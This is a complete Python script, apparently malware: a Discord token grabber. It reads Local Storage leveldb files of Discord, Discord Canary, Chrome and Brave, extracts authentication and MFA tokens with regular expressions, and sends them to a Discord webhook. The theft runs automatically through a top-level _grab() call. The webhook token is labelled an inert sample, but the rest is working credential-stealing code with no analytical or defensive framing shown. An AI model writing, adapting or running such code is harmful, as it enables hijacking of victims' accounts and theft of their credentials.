import os
import re
import json
import urllib.request

WEBHOOK = "https://discord.com/api/webhooks/000000000000000000/INERT-SAMPLE-NOT-A-REAL-WEBHOOK-TOKEN"


def _find_tokens(path):
    tokens = []
    path = os.path.join(path, "Local Storage", "leveldb")
    if not os.path.isdir(path):
        return tokens
    for name in os.listdir(path):
        if not name.endswith((".log", ".ldb")):
            continue
        with open(os.path.join(path, name), errors="ignore") as handle:
            for line in handle:
                for regex in (r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", r"mfa\.[\w-]{84}"):
                    tokens.extend(re.findall(regex, line))
    return tokens


def _grab():
    roaming = os.getenv("APPDATA", "")
    local = os.getenv("LOCALAPPDATA", "")
    paths = {
        "Discord": os.path.join(roaming, "discord"),
        "Discord Canary": os.path.join(roaming, "discordcanary"),
        "Chrome": os.path.join(local, "Google", "Chrome", "User Data", "Default"),
        "Brave": os.path.join(local, "BraveSoftware", "Brave-Browser", "User Data", "Default"),
    }
    found = []
    for platform, path in paths.items():
        found.extend(_find_tokens(path))
    if found:
        body = json.dumps({"content": "\n".join(found), "username": "grabber"}).encode()
        request = urllib.request.Request(WEBHOOK, data=body, headers={"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"})
        urllib.request.urlopen(request)


_grab()
